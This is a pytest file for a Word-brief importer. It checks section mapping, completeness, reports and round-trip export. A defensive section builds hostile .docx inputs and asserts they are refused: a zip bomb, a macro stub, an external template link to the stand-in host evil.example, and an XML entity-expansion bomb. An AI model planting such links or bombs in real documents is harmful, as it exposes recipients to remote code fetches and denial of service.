"""`briefer import`: a Word brief mapped into the sections, nothing dropped,
a report of what went where; hostile files refused with exit 2 and nothing
written.  The Word files are made here with python-docx."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import docx
import pytest

from briefer.cli import main
from briefer.intake import IntakeError, import_word_brief
from briefer.model.brief import Brief, Level
from briefer.model.text import parse_long_text
from briefer.storage.files import load_brief, save_brief

RTL_NAME = "محمد العلي"
CJK_NAME = "王毅"


def _table(d, rows: list[list[str]]) -> None:
    t = d.add_table(rows=len(rows), cols=len(rows[0]))
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            t.cell(r, c).text = value


def make_word_brief(path: Path) -> list[str]:
    """A Word brief of the kind offices keep; returns every text it holds."""
    d = docx.Document()
    d.add_paragraph("OFFICIAL-SENSITIVE")
    d.add_paragraph("Visit of the Trade Minister of Ruritania", style="Title")
    d.add_paragraph("London, 20 March 2026", style="Subtitle")
    d.add_heading("Summary", level=1)
    d.add_paragraph("The minister wants a trade deal by the summer.")
    d.add_heading("Key messages", level=1)
    for point in ("We welcome the visit.", "Tariffs must fall on both sides.", "Our market is open."):
        d.add_paragraph(point, style="List Bullet")
    d.add_heading("Who's who", level=1)
    _table(d, [["Name", "Position", "Organisation"],
               ["Anika Dvořák", "Minister of Trade", "Government of Ruritania"],
               [RTL_NAME, "Ambassador", "Embassy of Ruritania"],
               [CJK_NAME, "Observer", "Ministry of Commerce"]])
    d.add_heading("Risks", level=1)
    _table(d, [["Risk", "Likelihood", "Impact", "Mitigation"],
               ["The minister raises the steel quota", "High", "Med", "Offer a review"],
               ["Press leak of the offer", "Low", "High", "Brief the press office"]])
    d.add_heading("Outstanding actions", level=1)
    _table(d, [["Action", "Owner", "Deadline"],
               ["Send the draft text", "Trade desk", "20 March 2026"],
               ["Confirm the dinner", "Protocol", "after the visit"]])
    d.add_heading("Lines to take", level=2)
    d.add_paragraph("If asked about steel: we do not comment on quotas.", style="List Number")
    p = d.add_paragraph()
    p.add_run("Handling").bold = True
    d.add_paragraph("Keep the meeting short; the minister flies at 17:00.")
    d.add_heading("Annex A: Biographies", level=1)
    d.add_heading("Anika Dvořák", level=2)
    d.add_paragraph("Minister since 2024; formerly an economist.")
    d.save(path)
    texts = [p.text for p in d.paragraphs if p.text.strip()]
    texts += [c.text for t in d.tables for row in t.rows for c in row.cells]
    return texts


@pytest.fixture
def word_brief(tmp_path: Path) -> tuple[Path, list[str]]:
    path = tmp_path / "visit.docx"
    return path, make_word_brief(path)


def test_headings_tables_and_lists_map_into_sections(word_brief) -> None:
    path, _ = word_brief
    brief = import_word_brief(path).brief
    assert brief.marking == "OFFICIAL-SENSITIVE"
    assert brief.title == "Visit of the Trade Minister of Ruritania"
    assert brief.subtitle == "London, 20 March 2026"
    assert brief.summary == "The minister wants a trade deal by the summer."
    assert [k.point for k in brief.key_points] == [
        "We welcome the visit.",
        "Tariffs must fall on both sides.",
        "Our market is open.",
        "If asked about steel: we do not comment on quotas.",
    ]
    assert [(p.name, p.title, p.organization) for p in brief.participants] == [
        ("Anika Dvořák", "Minister of Trade", "Government of Ruritania"),
        (RTL_NAME, "Ambassador", "Embassy of Ruritania"),
        (CJK_NAME, "Observer", "Ministry of Commerce"),
    ]
    assert [(r.risk, r.likelihood, r.impact, r.mitigation) for r in brief.risks] == [
        ("The minister raises the steel quota", Level.HIGH, Level.MEDIUM, "Offer a review"),
        ("Press leak of the offer", Level.LOW, Level.HIGH, "Brief the press office"),
    ]
    assert [(i.issue, i.owner, i.due, i.detail) for i in brief.open_issues] == [
        ("Send the draft text", "Trade desk", dt.date(2026, 3, 20), None),
        ("Confirm the dinner", "Protocol", None, "Deadline: after the visit"),
    ]
    assert [(s.title, s.body) for s in brief.sections] == [
        ("Handling", "Keep the meeting short; the minister flies at 17:00."),
        ("Annex A: Biographies", "**Anika Dvořák**\n\nMinister since 2024; formerly an economist."),
    ]


def test_nothing_is_dropped(word_brief) -> None:
    path, texts = word_brief
    saved = json.dumps(import_word_brief(path).brief.model_dump(mode="json"), ensure_ascii=False)
    missing = [t for t in texts if t not in saved and t not in ("Name", "Position", "Organisation", "Risk",
                                                                 "Likelihood", "Impact", "Mitigation", "Action",
                                                                 "Owner", "Deadline", "High", "Med", "Low",
                                                                 "Who's who", "Key messages", "Risks", "Summary",
                                                                 "Outstanding actions", "Lines to take", "20 March 2026")]
    assert missing == []


def test_the_report_says_what_went_where(word_brief) -> None:
    path, _ = word_brief
    report = import_word_brief(path).report
    assert "“OFFICIAL-SENSITIVE” → the marking" in report
    assert "table (Name, Position, Organisation) → Participants (3)" in report
    assert "table (Risk, Likelihood, Impact, Mitigation) → Risks (2)" in report
    assert "“Key messages” → Key points (3)" in report
    assert "“Handling” → a custom section (no section of the brief matches it)" in report


def test_cli_import_writes_the_brief_and_prints_the_report(word_brief, tmp_path: Path, capsys) -> None:
    path, _ = word_brief
    out = tmp_path / "visit.brief"
    assert main(["import", str(path), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "Participants (3)" in printed
    brief = load_brief(out).brief
    assert [p.name for p in brief.participants][1:] == [RTL_NAME, CJK_NAME]


# --------------------------------------------------------------------------
# Hostile files


def _rezip(src: Path, dst: Path, change: dict[str, bytes]) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename not in change:
                zout.writestr(item, zin.read(item.filename))
        for name, data in change.items():
            zout.writestr(name, data)


def _hostile(kind: str, good: Path, dst: Path) -> None:
    if kind == "zip bomb":
        _rezip(good, dst, {"word/media/bomb.xml": b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"})
    elif kind == "macros":
        _rezip(good, dst, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    elif kind == "external link":
        rels = zipfile.ZipFile(good).read("word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
        _rezip(good, dst, {"word/_rels/document.xml.rels": rels})
    elif kind == "entity expansion":
        xml = zipfile.ZipFile(good).read("word/document.xml")
        bomb = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        _rezip(good, dst, {"word/document.xml": bomb + xml.split(b"?>", 1)[1]})
    elif kind == "100 MB":
        with open(dst, "wb") as fh:
            fh.truncate(100 * 1024 * 1024)
    elif kind == "not Word":
        dst.write_text("Just some text pretending to be a Word file.")


HOSTILE = ["zip bomb", "macros", "external link", "entity expansion", "100 MB", "not Word"]


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused_exit_2_nothing_written(word_brief, tmp_path: Path, capsys, kind: str) -> None:
    good, _ = word_brief
    bad = tmp_path / "hostile.docx"
    _hostile(kind, good, bad)
    with pytest.raises(IntakeError):
        import_word_brief(bad)
    out = tmp_path / "out.brief"
    assert main(["import", str(bad), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "hostile.docx" in err and "Traceback" not in err
    assert not out.exists()


def test_the_good_file_passes_the_same_checks(word_brief) -> None:
    # The hostile cases differ from this one only in what was planted.
    path, _ = word_brief
    assert import_word_brief(path).brief.participants


# --------------------------------------------------------------------------
# A brief Briefer exported to Word reads back into the same sections


EXAMPLE = Path(__file__).parent.parent.parent / "resources" / "examples" / "kushner-netanyahu-2025-11-10.brief"


def _read(text: str | None) -> list:
    """Long text as a reader sees it: paragraphs and lists, with emphasis."""
    return parse_long_text(text)


def test_the_example_exported_to_word_imports_back(tmp_path: Path, capsys) -> None:
    example = EXAMPLE
    docx_path = tmp_path / "example.docx"
    assert main(["export", str(example), "--format", "docx", "-o", str(docx_path)]) == 0
    original = load_brief(example).brief
    imported = import_word_brief(docx_path)
    brief = imported.brief
    # The Word file is marked with its banner, the highest marking it prints:
    # the example's SECRET section raises it.  Imported, that section's text
    # has no portion marking of its own, so the brief must be SECRET as a whole.
    assert original.marking == "OFFICIAL-SENSITIVE" and brief.marking == "SECRET"
    for name in ("title", "subtitle", "reference", "prepared_by", "prepared_for", "prepared_on",
                 "objectives", "their_objectives", "participants", "agenda", "stakeholders", "open_issues", "timeline",
                 "contact", "clearances", "decisions", "questions", "logistics"):
        assert getattr(brief, name) == getattr(original, name), name
    # Without a time of day the cover prints no time zone (issue 14), so none comes back.
    assert brief.meeting == original.meeting.model_copy(update={"timezone": None, "home_timezone": None})
    assert brief.key_points == original.key_points
    # The export orders risks by severity.
    assert sorted(brief.risks, key=lambda r: r.risk) == sorted(original.risks, key=lambda r: r.risk)
    for name in ("summary", "purpose", "background"):
        assert _read(getattr(brief, name)) == _read(getattr(original, name)), name
    assert [(s.title, _read(s.body)) for s in brief.sections] == [(s.title, _read(s.body)) for s in original.sections]
    assert "the risk matrix (it is drawn from the risks): left out" in imported.report


def test_an_empty_word_document_gives_a_brief_named_after_the_file(tmp_path: Path) -> None:
    path = tmp_path / "Blank notes.docx"
    docx.Document().save(path)
    imported = import_word_brief(path)
    assert imported.brief.title == "Blank notes"
    assert [s.title for s in imported.brief.sources] == ["Imported from Blank notes.docx"]


def test_a_table_with_an_unknown_header_is_kept_where_it_stood(tmp_path: Path) -> None:
    d = docx.Document()
    d.add_paragraph("Visit", style="Title")
    d.add_heading("Costs", level=1)
    _table(d, [["Item", "Amount"], ["Hotel", "£400"], ["Flights", "£900"]])
    path = tmp_path / "costs.docx"
    d.save(path)
    (section,) = import_word_brief(path).brief.sections
    assert section.title == "Costs"
    assert section.body == "- Item | Amount\n- Hotel | £400\n- Flights | £900"


def test_the_cover_s_time_in_two_zones_contact_and_clearances_import_back(tmp_path: Path) -> None:
    original = Brief.model_validate({
        "title": "Call with Buenos Aires",
        "prepared_by": "Americas desk",
        "prepared_on": "2025-11-09",
        "meeting": {"date": "2025-11-10", "start": "10:00", "end": "11:30", "timezone": "America/Argentina/Buenos_Aires",
                    "home_timezone": "Europe/London"},
        "contact": {"name": "Sarah Levy", "phone": "+44 20 7946 0000", "email": "s.levy@example.org"},
        "clearances": [
            {"name": "Head of desk (acting)", "office": "Americas", "status": "cleared with comments", "date": "2025-11-09"},
            {"name": "Director", "status": "pending"},
        ],
        "summary": "The bottom line.",
    })
    source = tmp_path / "call.brief"
    save_brief(source, original)
    docx_path = tmp_path / "call.docx"
    assert main(["export", str(source), "--format", "docx", "-o", str(docx_path)]) == 0
    brief = import_word_brief(docx_path).brief
    assert brief.meeting.start == original.meeting.start and brief.meeting.end == original.meeting.end
    assert brief.meeting.timezone == "America/Argentina/Buenos_Aires"
    assert brief.meeting.home_timezone == "Europe/London"
    assert brief.contact == original.contact
    assert brief.clearances == original.clearances
    assert (brief.prepared_by, brief.prepared_on) == (original.prepared_by, original.prepared_on)
    assert brief.summary == "The bottom line."
